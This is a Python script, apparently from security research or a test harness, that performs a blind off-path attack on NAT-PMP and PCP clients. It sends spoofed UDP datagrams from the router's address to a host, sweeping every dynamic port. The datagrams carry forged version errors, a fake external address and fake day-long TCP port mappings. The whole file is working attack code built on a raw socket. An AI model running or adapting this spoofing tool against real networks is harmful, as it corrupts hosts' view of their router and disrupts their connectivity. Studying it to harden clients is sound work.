"""Forges answers of the router to a host: python3 attacker.py ROUTER HOST SECONDS.

Needs a raw socket and sees no datagram of the host. Sweeps the 16,384 dynamic ports (RFC 6335 section 6) with version
errors and NAT-PMP answers until the time is over, and prints the number of datagrams as a line of JSON.
"""

import json
import random
import socket
import struct
import sys
import time

FORGED = socket.inet_aton("66.66.66.66")
PORTS = range(49152, 65536)
INTERNAL_PORTS = (6000, 7000)


def payloads():
    """Answers that need no nonce, in the order in which a client waits for them."""
    yield struct.pack("!BBHI", 0, 0x81, 1, 0)  # NAT-PMP's version error for MAP (RFC 6886 section 3.5)
    yield struct.pack("!BBHI", 0, 0x80, 1, 0)  # the same for ANNOUNCE
    yield struct.pack("!BBHI4s", 0, 0x80, 0, 1000, FORGED)  # the external address (RFC 6886 section 3.2)
    for port in INTERNAL_PORTS:  # a mapping of TCP for a day (RFC 6886 section 3.3)
        yield struct.pack("!BBHIHHI", 0, 0x82, 0, 1000, port, 6666, 86400)
    yield struct.pack("!BBBBII12x", 1, 0x81, 0, 1, 1800, 0)  # PCP's version error (RFC 6887 section 9)


def packet(source, target, port, payload):
    """An IPv4 packet of UDP without checksum, which IPv4 permits (RFC 768)."""
    udp = struct.pack("!HHHH", 5351, port, 8 + len(payload), 0) + payload
    return struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0, source, target) + udp


def main():
    router, host, seconds = sys.argv[1], sys.argv[2], float(sys.argv[3])
    source, target = socket.inet_aton(router), socket.inet_aton(host)
    ports = random.sample(PORTS, len(PORTS))
    packets = [packet(source, target, port, payload) for port in ports for payload in payloads()]
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    raw.connect((host, 0))
    print(json.dumps({"ready": len(packets)}), flush=True)
    sent, end = 0, time.monotonic() + seconds
    while time.monotonic() < end:
        for one in packets:
            try:
                raw.send(one)
                sent += 1
            except OSError:  # the queue is full
                pass
            if sent % 4096 == 0 and time.monotonic() >= end:
                break
    print(json.dumps({"sent": sent, "seconds": seconds}), flush=True)


if __name__ == "__main__":
    main()
